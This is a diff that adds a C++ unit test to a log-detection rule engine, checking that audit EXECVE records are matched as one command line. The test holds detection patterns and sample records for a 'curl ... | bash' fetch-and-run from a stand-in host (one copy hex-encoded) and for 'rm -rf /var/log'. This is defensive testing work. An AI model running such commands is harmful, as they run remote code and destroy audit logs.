@@ -914,5 +914,42 @@ TEST(RuleSetTest, AuditHexValuesAreReadDecoded) {
   EXPECT_THAT(HitIds(hits), ElementsAre("hex", "uid"));
 }
 
+// An EXECVE record's arguments are one field each (kernel/auditsc.c
+// audit_log_execve_info): the rules read them joined, `cmdline="..."` at
+// the end of the decoded text, quoted and hex arguments alike.
+TEST(RuleSetTest, ExecveArgumentsAreReadAsOneCommandLine) {
+  auto set = MustCompile({
+      MakeRule("pipe", {R"(\bcmdline="[^\n]*\bcurl\s[^\n]*\|\s*(?:ba)?sh\b)"},
+               {R"re(\bcmdline="(?P<cmdline>[^\n]*)"$)re"}),
+      MakeRule("logs", {R"(\bcmdline="rm\s+-rf?\s+/var/log\b)"}),
+  });
+  auto scratch = set->NewScratch();
+  ASSERT_TRUE(scratch.ok());
+  std::vector<RuleHit> hits;
+  // bash -c 'curl -s http://x/s | bash': the pipe is in one hex argument.
+  const std::string piped =
+      "type=EXECVE msg=audit(1796641140.108:400084): argc=3 a0=\"bash\" a1=\"-c\" "
+      "a2=6375726C202D7320687474703A2F2F782F73207C2062617368";
+  set->Match(Msg("audisp-syslog", piped), **scratch, &hits);
+  ASSERT_THAT(HitIds(hits), ElementsAre("pipe"));
+  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"cmdline", "bash -c curl -s http://x/s | bash"}));
+  EXPECT_EQ(MakeAlert(Msg("audisp-syslog", piped), hits[0]).message, piped);
+  // rm -rf /var/log: three quoted arguments, no hex at all.
+  set->Match(Msg("audisp-syslog",
+                 "type=EXECVE msg=audit(1796641141.108:400085): argc=3 a0=\"rm\" a1=\"-rf\" "
+                 "a2=\"/var/log\""),
+             **scratch, &hits);
+  EXPECT_THAT(HitIds(hits), ElementsAre("logs"));
+  // The kernel's printk form.
+  set->Match(Msg("kernel",
+                 "audit: type=1309 audit(1718157600.008:8011): argc=3 a0=\"rm\" a1=\"-rf\" "
+                 "a2=\"/var/log/\""),
+             **scratch, &hits);
+  EXPECT_THAT(HitIds(hits), ElementsAre("logs"));
+  // Another program's text is its own.
+  set->Match(Msg("myapp", "argc=3 a0=\"rm\" a1=\"-rf\" a2=\"/var/log\""), **scratch, &hits);
+  EXPECT_THAT(HitIds(hits), ElementsAre());
+}
+
 }  // namespace
 }  // namespace konseki::matchers
